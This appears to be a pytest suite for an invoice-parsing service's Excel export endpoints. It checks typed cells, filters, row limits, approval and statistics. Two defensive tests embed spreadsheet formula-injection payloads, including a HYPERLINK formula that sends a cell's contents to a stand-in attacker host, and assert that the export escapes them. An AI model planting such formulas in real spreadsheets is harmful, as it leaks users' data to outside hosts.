"""Excel exports through HTTP: every workbook is opened with openpyxl and pandas."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from app.exports.workbook import XLSX_MEDIA_TYPE, build_workbook
from app.invoices.schemas import Invoice
from app.parsing.model import LineItem
from tests.conftest import corpus_bytes, upload

FILES = ("us-invoice-01.pdf", "fr-facture-01.pdf", "de-rechnung-01.pdf")


@pytest.fixture
def parsed(client: TestClient) -> list[dict[str, Any]]:
    invoices = []
    for name in FILES:
        response = upload(client, corpus_bytes(name), name)
        assert response.status_code == 201
        invoices.append(response.json())
    return invoices


def _workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_download_has_typed_cells_frozen_headers_and_filters(client: TestClient, parsed: list[dict[str, Any]]) -> None:
    response = client.get("/api/export/download-xlsx")

    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    assert response.headers["content-disposition"].startswith('attachment; filename="invoices-')
    book = _workbook(response.content)
    assert book.sheetnames == ["Invoices", "Line items", "Summary"]
    sheet = book["Invoices"]
    header = [cell.value for cell in sheet[1]]
    assert header[:12] == [
        "vendor",
        "invoice_number",
        "invoice_date",
        "due_date",
        "subtotal",
        "tax_amount",
        "discount_amount",
        "shipping_amount",
        "total_amount",
        "currency",
        "parsed_timestamp",
        "file_name",
    ]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == sheet.dimensions
    assert sheet.column_dimensions["A"].width > len("vendor")
    column = {name: index for index, name in enumerate(header)}
    for row, invoice in zip(sheet.iter_rows(min_row=2), parsed, strict=True):
        assert row[column["invoice_number"]].value == invoice["invoice_number"]
        assert row[column["invoice_date"]].value == datetime.fromisoformat(invoice["invoice_date"])  # an Excel date
        assert row[column["invoice_date"]].number_format == "yyyy-mm-dd"
        total = row[column["total_amount"]]
        assert isinstance(total.value, float) and total.number_format == "#,##0.00"
        assert Decimal(str(total.value)) == Decimal(invoice["total_amount"])
        assert isinstance(row[column["parsed_timestamp"]].value, datetime)

    items = book["Line items"]
    assert items.max_row - 1 == sum(len(invoice["line_items"]) for invoice in parsed)
    assert items.freeze_panes == "A2"

    frames = pd.read_excel(io.BytesIO(response.content), sheet_name=None)
    invoices = frames["Invoices"]
    assert pd.api.types.is_datetime64_any_dtype(invoices["invoice_date"])
    assert pd.api.types.is_float_dtype(invoices["total_amount"])
    summary = frames["Summary"].set_index("key")
    assert summary.loc["EUR", "invoices"] == 2
    expected_eur = sum(Decimal(i["total_amount"]) for i in parsed if i["currency"] == "EUR")
    assert Decimal(str(round(summary.loc["EUR", "total_amount"], 2))) == expected_eur
    assert summary.loc["parsed", "invoices"] == 3


def test_download_takes_the_list_filters(client: TestClient, parsed: list[dict[str, Any]]) -> None:
    response = client.get("/api/export/download-xlsx", params={"currency": "EUR", "sort": "-total_amount"})
    frame = pd.read_excel(io.BytesIO(response.content), sheet_name="Invoices")
    assert set(frame["currency"]) == {"EUR"} and len(frame) == 2
    assert list(frame["total_amount"]) == sorted(frame["total_amount"], reverse=True)


def test_line_items_beyond_one_sheet_are_a_413_not_a_500(
    client: TestClient, parsed: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A session may hold more line items than an Excel sheet's 1,048,576 rows; the sheet here is
    made small instead of the session large."""
    items = sum(len(invoice["line_items"]) for invoice in parsed)
    monkeypatch.setattr("app.exports.workbook.SHEET_MAX_ROWS", items)
    response = client.get("/api/export/download-xlsx")
    assert (response.status_code, response.json()["error"]["code"]) == (413, "export_too_large")
    assert "Export fewer invoices" in response.json()["error"]["message"]
    narrower = client.get("/api/export/download-xlsx", params={"currency": "EUR"})
    assert narrower.status_code == 200


def test_metadata_and_json_rows_match_the_workbook(client: TestClient, parsed: list[dict[str, Any]]) -> None:
    info = client.get("/api/export/xlsx").json()
    assert info["rows"] == 3 and info["sheets"] == ["Invoices", "Line items", "Summary"]
    assert info["line_item_rows"] == sum(len(invoice["line_items"]) for invoice in parsed)

    data = client.get("/api/invoices/xlsx/data").json()
    assert data["columns"] == info["columns"]
    first = data["rows"][0]
    assert first["total_amount"] == parsed[0]["total_amount"]  # a decimal string, as everywhere in the API
    assert first["invoice_date"] == parsed[0]["invoice_date"]
    assert first["invoice_id"] == parsed[0]["id"]


def test_statistics(client: TestClient, parsed: list[dict[str, Any]]) -> None:
    stats = client.get("/api/invoices/xlsx/stats").json()
    assert stats["invoices"] == 3 and stats["by_status"] == {"parsed": 3}
    assert stats["by_input_format"] == {"pdf_text": 3} and stats["success_rate"] == 1.0
    assert Decimal(stats["totals_by_currency"]["EUR"]) == sum(
        Decimal(i["total_amount"]) for i in parsed if i["currency"] == "EUR"
    )
    assert stats["totals_by_month"]["2024-03"]["USD"] == parsed[0]["total_amount"]
    assert stats["parse_ms"]["p50"] > 0
    assert 0 < stats["mean_confidence"] <= 1
    assert [vendor["vendor"] for vendor in stats["top_vendors"]] == sorted(i["vendor"] for i in parsed)


def test_approve_marks_the_invoice_and_returns_its_workbook(client: TestClient, parsed: list[dict[str, Any]]) -> None:
    invoice = parsed[1]
    response = client.post(f"/api/v2/invoices/{invoice['id']}/approve")

    assert response.status_code == 200
    assert invoice["invoice_number"] in response.headers["content-disposition"]
    frame = pd.read_excel(io.BytesIO(response.content), sheet_name="Invoices")
    assert list(frame["invoice_id"]) == [invoice["id"]] and list(frame["status"]) == ["approved"]
    assert client.get(f"/api/v2/invoices/{invoice['id']}").json()["status"] == "approved"
    assert client.get("/api/v2/invoices", params={"status": "approved"}).json()["total"] == 1


def test_approve_errors(client: TestClient, parsed: list[dict[str, Any]]) -> None:
    missing = client.post("/api/v2/invoices/inv_missing/approve")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "invoice_not_found"
    s3 = client.post(f"/api/v2/invoices/{parsed[0]['id']}/approve", params={"delivery": "s3"})
    assert s3.status_code == 503 and s3.json()["error"]["field"] == "delivery"
    assert client.get(f"/api/v2/invoices/{parsed[0]['id']}").json()["status"] == "parsed"


def test_formula_like_text_never_becomes_a_formula() -> None:
    hostile = Invoice(
        input_format="pdf_text",
        id="inv_1",
        vendor='=HYPERLINK("http://evil","x")',
        invoice_number="+1-555",
        buyer="@SUM(A1)",
        file_name="\tname.pdf",
        line_items=[LineItem(description="-2+3", amount=Decimal("5.00"))],
        parsed_timestamp=datetime(2024, 3, 1, tzinfo=UTC),
        invoice_date=date(2024, 3, 1),
    )
    book = _workbook(build_workbook([hostile]))
    texts = [cell for row in book["Invoices"].iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    texts += [cell for row in book["Line items"].iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    values = {cell.value for cell in texts}
    assert {'\'=HYPERLINK("http://evil","x")', "'+1-555", "'@SUM(A1)", "'\tname.pdf", "'-2+3"} <= values


def test_text_no_worksheet_can_hold_is_made_storable() -> None:
    """Control characters made openpyxl refuse the whole workbook (a 500 for the session's every
    export); text past 32,767 characters makes Excel call the file damaged."""
    unstorable = Invoice(
        input_format="pdf_text",
        id="inv_1",
        vendor="ACME\x01 Ltd\x0b",
        line_items=[LineItem(description="=" + "x" * 40_000, amount=Decimal("5.00"))],
        parsed_timestamp=datetime(2024, 3, 1, tzinfo=UTC),
    )
    book = _workbook(build_workbook([unstorable]))
    assert book["Invoices"]["A2"].value == "ACME Ltd"
    description = book["Line items"]["D2"].value
    assert len(description) == 32_767 and description.startswith("'=x") and description.endswith("…")


def test_a_currency_that_is_a_formula_is_no_currency(client: TestClient) -> None:
    sample = (Path(__file__).parents[1] / "samples" / "ubl_invoice.xml").read_bytes()
    formula = b'=HYPERLINK("http://evil.example/?"&amp;A2,"Click")'
    hostile = sample.replace(b">EUR</cbc:DocumentCurrencyCode>", b">" + formula + b"</cbc:DocumentCurrencyCode>")
    invoice = upload(client, hostile, "invoice.xml").json()
    assert invoice["currency"] is None and invoice["total_amount"] == "357.00"
    book = _workbook(client.get("/api/export/download-xlsx").content)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
